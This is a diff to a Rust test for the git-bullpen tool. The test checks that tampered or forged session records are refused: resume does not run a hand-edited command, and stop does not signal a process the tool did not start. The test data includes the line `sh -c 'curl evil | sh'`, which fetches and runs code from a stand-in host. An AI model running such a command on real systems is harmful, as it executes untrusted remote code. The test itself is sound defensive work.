@@ -449,23 +449,52 @@ fn usage_errors() {
 }
 
 #[test]
-fn records_bullpen_cannot_read() {
+fn records_bullpen_cannot_read_or_does_not_trust() {
     let env = Env::new();
-    env.bullpen(&["spawn", "newer", "--", "true"]).ok();
-    env.bullpen(&["spawn", "renamed", "--", "true"]).ok();
-    env.bullpen(&["spawn", "fine", "--", "true"]).ok();
+    for id in ["newer", "renamed", "fine", "edited", "forged"] {
+        env.bullpen(&["spawn", id, "--", "true"]).ok();
+    }
     env.edit_record("newer", |r| r["schema"] = 99.into());
     env.edit_record("renamed", |r| r["id"] = "other".into());
-    insta::assert_snapshot!(table(&[
+    // By hand, as a fetched record could: another command, and a background
+    // run of a process bullpen never started (a `sleep` of this test's, exactly
+    // as /proc shows it; were stop to signal it, only that `sleep` would end).
+    env.edit_record("edited", |r| {
+        r["command"] = serde_json::json!(["sh", "-c", "curl evil | sh"])
+    });
+    let mut sleeper = env.cmd("sleep", &env.repo).arg("1000").spawn().unwrap();
+    let proc_ref = crate::support::process_ref(sleeper.id());
+    env.edit_record("forged", |r| {
+        r["state"] = "running".into();
+        r["process"] = serde_json::json!({
+            "pid": proc_ref["pid"],
+            "start_time": proc_ref["start_time"],
+            "boot_id": proc_ref["boot_id"],
+            "background": true,
+            "supervisor_pid": proc_ref["pid"],
+            "supervisor_start_time": proc_ref["start_time"],
+            "started_at": "2026-01-01T00:00:00Z",
+        });
+    });
+    let shown = table(&[
         case(&env, &["ls"]),
         case(&env, &["path", "newer"]),
         case(&env, &["logs", "renamed"]),
-    ]), @r"
+        case(&env, &["resume", "edited"]),
+        case(&env, &["stop", "forged"]),
+    ]);
+    let survived = sleeper.try_wait().unwrap().is_none();
+    let _ = sleeper.kill();
+    let _ = sleeper.wait();
+    assert!(survived, "stop signalled a process bullpen never started");
+    insta::assert_snapshot!(shown, @r"
     $ git bullpen ls
     exit 0
     --- stdout
-    ID    STATE     BRANCH           AGE  WORKTREE
-    fine  exited 0  bullpen/fine +0  [AGE]  [ROOT]/bullpen-home/worktrees/repo-[KEY]/fine
+    ID      STATE     BRANCH             AGE  WORKTREE
+    edited  exited 0  bullpen/edited +0  [AGE]  [ROOT]/bullpen-home/worktrees/repo-[KEY]/edited
+    fine    exited 0  bullpen/fine +0    [AGE]  [ROOT]/bullpen-home/worktrees/repo-[KEY]/fine
+    forged  running   bullpen/forged +0  [AGE]  [ROOT]/bullpen-home/worktrees/repo-[KEY]/forged
     --- stderr
     warning: skipping refs/bullpen/sessions/newer: cannot read refs/bullpen/sessions/newer ([OID]): record schema 99 is newer than this bullpen understands (schema 1); upgrade git-bullpen
     warning: skipping refs/bullpen/sessions/renamed: it holds the record of session 'other' (edited by hand)
@@ -478,6 +507,17 @@ fn records_bullpen_cannot_read() {
     --- stderr
     fatal: refs/bullpen/sessions/renamed holds the record of session 'other', not of 'renamed' (edited by hand)
     hint: see it with `git show refs/bullpen/sessions/renamed:session.json`
+    $ git bullpen resume edited
+    exit 3
+    --- stderr
+    fatal: not running the recorded command of session edited, `sh -c 'curl evil | sh'`: its recorded command is not the one this machine recorded (the record may come from a fetch or a hand edit)
+    hint: if you mean to run it, name it: git bullpen resume edited -- sh -c 'curl evil | sh'
+    hint: the command this machine recorded for it: git bullpen resume edited -- true
+    $ git bullpen stop forged
+    exit 3
+    --- stderr
+    fatal: not stopping session forged: recorded running, but nothing on this machine proves it is ours: the recorded process is not the run started here; nothing was signalled
+    hint: if pid [PID] is yours to end, end it yourself; the record's history is in `git log -p refs/bullpen/sessions/forged`
     ");
 }
 
